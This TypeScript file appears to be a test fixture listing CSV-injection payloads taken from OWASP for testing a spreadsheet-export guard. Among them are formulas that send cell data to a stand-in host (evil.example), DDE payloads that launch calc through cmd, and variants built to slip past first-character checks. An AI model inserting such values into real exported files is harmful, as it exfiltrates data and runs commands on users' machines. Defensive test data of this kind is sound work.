/**
 * CSV-injection payloads from OWASP's "CSV Injection" page and the classic
 * write-ups it cites, plus the forms that slip past a first-character check:
 * leading whitespace and NBSP, full-width signs, and `;`-separated fragments
 * for locales whose spreadsheets split on semicolons.
 */
export const CSV_INJECTION_PAYLOADS: readonly string[] = [
  "=1+1",
  "=SUM(1,2)",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+thespanishinquisition(cmd|'/c calc.exe'!A",
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
  "\t=1+1",
  "\r=1+1",
  " =SUM(1,2)",
  "\u00a0+1 555",
  "\u3000=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1+1)",
  "Semi;=1+1;colon",
  "Engineering; Ops",
  "a\tb=1+1",
  // An apostrophe already there: the guard doubles it, or `'=1+1` would read back as `=1+1`.
  "'=1+1",
  "Semi;'=1+1",
];
